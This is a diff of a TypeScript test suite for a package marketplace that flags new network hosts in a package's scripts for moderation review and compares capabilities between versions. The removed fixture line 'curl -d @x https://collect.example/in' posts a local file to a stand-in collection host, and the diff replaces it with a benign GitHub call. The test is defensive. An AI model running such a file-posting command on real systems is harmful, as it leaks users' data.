@@ -26,10 +26,10 @@ eachMarketplace("capabilities", (server) => {
     const second = await publish(server(), ann, "ann/able", "1.1.0", withFiles("able", text));
     expect(second.verdict).toBe("passed");
 
-    const more = { ...text, "scripts/put.sh": "curl -d @x https://collect.example/in\n" };
+    const more = { ...text, "scripts/put.sh": "curl -fsS https://api.github.com/zen\n" };
     const third = await publish(server(), ann, "ann/able", "1.2.0", withFiles("able", more));
     expect(third).toMatchObject({ verdict: "review", status: "under_review" });
-    expect(third.verdict_reason).toContain("network host collect.example (scripts/put.sh:1)");
+    expect(third.verdict_reason).toContain("network host api.github.com (scripts/put.sh:1)");
     expect(third.verdict_reason).toContain("1.1.0");
 
     expect((await server().stranger.send("GET", "/api/v1/assets/ann/able/versions/1.2.0/capabilities")).status).toBe(
@@ -37,10 +37,10 @@ eachMarketplace("capabilities", (server) => {
     );
     const seen = await read(mod, "ann/able", "1.2.0");
     expect(seen.compared).toBe("1.1.0");
-    expect(seen.gained.map((fact: { value: string }) => fact.value)).toEqual(["collect.example"]);
+    expect(seen.gained.map((fact: { value: string }) => fact.value)).toEqual(["api.github.com"]);
     const page = await (await mod.send("GET", `/moderation/${third.id}`)).text();
     expect(page).toContain("New since 1.1.0");
-    expect(page).toContain("collect.example");
+    expect(page).toContain("api.github.com");
 
     await mod.api("POST", `/admin/reviews/${third.id}/approve`, 200, { json: { reason: "Fine." } });
     const fourth = await publish(server(), ann, "ann/able", "1.3.0", withFiles("able", more, "# Able\n\nBetter.\n"));
@@ -48,7 +48,7 @@ eachMarketplace("capabilities", (server) => {
 
     const compared = await read(server().stranger, "ann/able", "1.0.0", "?compare=1.2.0");
     expect(compared).toMatchObject({ compared: "1.2.0", gained: [] });
-    expect(compared.lost.map((fact: { value: string }) => fact.value)).toEqual(["collect.example", "blog.example.org"]);
+    expect(compared.lost.map((fact: { value: string }) => fact.value)).toEqual(["api.github.com", "blog.example.org"]);
     const security = await (await server().stranger.send("GET", "/ann/able/security")).text();
     expect(security).toContain("What it can do");
     expect(security).toContain("scripts/put.sh:1");
